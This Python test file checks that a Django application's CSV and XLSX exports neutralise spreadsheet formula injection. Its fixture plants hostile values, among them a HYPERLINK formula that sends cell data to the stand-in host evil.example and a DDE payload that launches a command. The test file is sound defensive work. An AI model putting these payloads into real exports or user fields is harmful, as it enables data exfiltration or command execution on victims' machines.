"""Every spreadsheet the system hands out is safe to open and typed (issues [N], [P], [L]).

Hostile text goes wherever a user (or, for a failed sign-in, anyone) can put it: a task's
title and expected output, a unit's, committee's and cycle's name, an indicator's name,
measure unit and target text, the username typed at a failed sign-in, a request path
and an audit detail. Then every export is downloaded through its address as the role
that uses it, opened as a spreadsheet program would read it, and checked: no .xlsx cell
is a formula, no .csv field starts with a character that makes one, and where the file
has counts they are numbers, not text.
"""

import csv
import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from chidao.api.services import do_create_api_token
from chidao.assignments.models import Task
from chidao.audit.choices import AuditAction
from chidao.audit.context import RequestContext
from chidao.audit.models import AuditEvent
from chidao.audit.services import do_record_event
from chidao.committees.models import Committee
from chidao.core.periods import PeriodKind
from chidao.core.spreadsheets import FORMULA_PREFIXES
from chidao.core.tests.world import build_world, sign_in
from chidao.indicators.choices import ObservationState
from chidao.indicators.models import Indicator, Target
from chidao.indicators.tests.factories import ObservationFactory
from chidao.org.models import Unit
from chidao.reporting.models import ReportingCycle

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE = {
    "title": LINK,
    "output": "+SUM(1,1)",
    "unit": "-2+3 Sở Tài chính",
    "committee": "@SUM(A1:A9) Ban Chỉ đạo",
    "cycle": "=1+1 Quý III/2025",
    "indicator": "@SUM(1) Tỉ lệ hồ sơ trực tuyến",
    "measure_unit": "=1",
    "target": "=2*3",
    "username": '=HYPERLINK("http://evil.example/","đăng nhập")',
    "path": "=cmd|' /C calc'!A0",
    "detail": "\t=1+1",
}


@pytest.fixture
def world():
    """The shared world with hostile text in every field an export prints."""
    world = build_world()
    Task.objects.filter(pk=world.task.pk).update(
        title=HOSTILE["title"], expected_output=HOSTILE["output"], progress_percent=40
    )
    Unit.objects.filter(pk=world.lead_unit.pk).update(name=HOSTILE["unit"])
    Committee.objects.filter(pk=world.committee.pk).update(name=HOSTILE["committee"])
    ReportingCycle.objects.filter(pk=world.objects["cycle"].pk).update(title=HOSTILE["cycle"])
    indicator = world.objects["indicator"]
    Indicator.objects.filter(pk=indicator.pk).update(
        name=HOSTILE["indicator"], measure_unit=HOSTILE["measure_unit"]
    )
    Target.objects.create(indicator=indicator, year=2025, text=HOSTILE["target"])
    ObservationFactory(
        indicator=indicator,
        unit=world.lead_unit,
        period_kind=PeriodKind.YEAR,
        period_start=datetime.date(2025, 1, 1),
        state=ObservationState.APPROVED,
    )
    # Anyone, without an account, can type a username; the log keeps it as typed.
    Client().post(reverse("login"), {"username": HOSTILE["username"], "password": "sai"})
    do_record_event(
        action=AuditAction.PERMISSION_DENIED,
        username="canbo",
        ctx=RequestContext(request_id="r-1", ip="10.0.0.9", method="GET", path=HOSTILE["path"]),
        detail=HOSTILE["detail"],
    )
    return world


def api_client(user) -> APIClient:
    _token, secret = do_create_api_token(by=user, name="Kiểm thử công thức")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {secret}")
    return client


def cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_is_safe(content: bytes, *, hostile: tuple[str, ...], has_counts: bool) -> None:
    every = cells(content)
    formulas = [(cell.coordinate, cell.value) for cell in every if cell.data_type == "f"]
    assert not formulas
    texts = {cell.value for cell in every if cell.data_type == "s"}
    for text in hostile:  # the hostile text is there, exactly as typed, as text
        assert any(text in value for value in texts), text
    if has_counts:
        assert any(cell.data_type == "n" and cell.value is not None for cell in every)


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def assert_csv_is_safe(content: bytes, *, hostile: tuple[str, ...]) -> list[list[str]]:
    rows = csv_rows(content)
    fields = [field for row in rows for field in row]
    assert not [field for field in fields if field.startswith(FORMULA_PREFIXES)]
    for text in hostile:  # kept, behind the apostrophe that makes it text
        assert "'" + text in fields or any(text in field for field in fields), text
    return rows


def test_the_audit_csv_writes_a_typed_username_path_and_detail_as_text(world):
    assert AuditEvent.objects.filter(username=HOSTILE["username"]).exists()
    admin = sign_in(Client(), world.users["admin"])

    response = admin.get(reverse("audit:event_export"))

    assert response.status_code == 200
    assert_csv_is_safe(
        response.content, hostile=(HOSTILE["username"], HOSTILE["path"], HOSTILE["detail"])
    )


def test_the_ranking_xlsx(world):
    client = sign_in(Client(), world.users["secretariat"])

    response = client.get(
        reverse("dashboards:unit_ranking_xlsx", args=[world.committee.pk]),
        {"as_of": "31/12/2025"},
    )

    assert response.status_code == 200
    assert_xlsx_is_safe(
        response.content, hostile=(HOSTILE["committee"], HOSTILE["unit"]), has_counts=True
    )


def test_the_evaluation_xlsx(world):
    client = sign_in(Client(), world.users["secretariat"])

    response = client.get(
        reverse("dashboards:unit_evaluation_xlsx", args=[world.committee.pk]),
        {"kind": "year", "year": "2025"},
    )

    assert response.status_code == 200
    assert_xlsx_is_safe(response.content, hostile=(HOSTILE["unit"],), has_counts=True)


def test_the_upper_level_export(world):
    client = api_client(world.users["secretariat"])

    response = client.get(
        reverse("api:committee-export", kwargs={"pk": world.committee.pk}),
        {"period": "2025", "output": "xlsx"},
    )

    assert response.status_code == 200
    hostile = ("title", "output", "unit", "committee", "indicator", "measure_unit", "target")
    assert_xlsx_is_safe(
        response.content, hostile=tuple(HOSTILE[key] for key in hostile), has_counts=True
    )
    book = load_workbook(io.BytesIO(response.content))
    values = [row[5] for row in book["Chỉ tiêu"].iter_rows(min_row=2, values_only=True)]
    assert any(isinstance(value, int | float) for value in values)  # the approved value
    assert isinstance(book["Nhiệm vụ"]["C1"].value, datetime.datetime)  # as of: a date


def test_the_report_appendix_xlsx(world):
    client = sign_in(Client(), world.users["secretariat"])
    cycle = world.objects["cycle"]

    response = client.get(reverse("reporting:report_xlsx", args=[cycle.pk]))

    assert response.status_code == 200
    hostile = ("title", "output", "unit", "indicator", "measure_unit", "target")
    assert_xlsx_is_safe(
        response.content, hostile=tuple(HOSTILE[key] for key in hostile), has_counts=True
    )
    book = load_workbook(io.BytesIO(response.content))
    totals = [r for r in book["Tổng hợp"].iter_rows(values_only=True) if r[1] == "Tổng cộng"]
    assert all(isinstance(value, int) for value in totals[0][2:9])


def test_the_task_list_xlsx(world):
    client = sign_in(Client(), world.users["secretariat"])

    response = client.get(reverse("assignments:task_export"), {"as_of": "31/12/2025"})

    assert response.status_code == 200
    assert_xlsx_is_safe(
        response.content,
        hostile=(HOSTILE["title"], HOSTILE["output"], HOSTILE["unit"], HOSTILE["committee"]),
        has_counts=True,
    )


def test_the_submission_board_csv_and_xlsx(world):
    client = sign_in(Client(), world.users["secretariat"])
    cycle = world.objects["cycle"]

    as_csv = client.get(reverse("reporting:cycle_board_csv", args=[cycle.pk]))
    as_xlsx = client.get(reverse("reporting:cycle_board_xlsx", args=[cycle.pk]))

    rows = assert_csv_is_safe(as_csv.content, hostile=(HOSTILE["unit"],))
    assert rows[1][0] == "1"
    assert_xlsx_is_safe(as_xlsx.content, hostile=(HOSTILE["unit"],), has_counts=True)


def test_the_cycle_list_csv_and_xlsx(world):
    client = sign_in(Client(), world.users["secretariat"])
    url = reverse("reporting:cycle_list")

    as_csv = client.get(url, {"xuat": "csv"})
    as_xlsx = client.get(url, {"xuat": "xlsx"})

    hostile = (HOSTILE["cycle"], HOSTILE["committee"])
    rows = assert_csv_is_safe(as_csv.content, hostile=hostile)
    assert rows[1][4] == "15/06/2025"  # dates written as offices write them
    assert_xlsx_is_safe(as_xlsx.content, hostile=hostile, has_counts=True)
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    window_start = next(row for row in sheet.iter_rows(min_row=4) if row[1].value)[4]
    assert window_start.is_date


@pytest.mark.parametrize("name", ["imports:task_template", "imports:indicator_template"])
def test_the_blank_import_forms(world, name):
    client = sign_in(Client(), world.users["secretariat"])

    response = client.get(reverse(name))

    assert response.status_code == 200
    assert_xlsx_is_safe(response.content, hostile=(), has_counts=False)
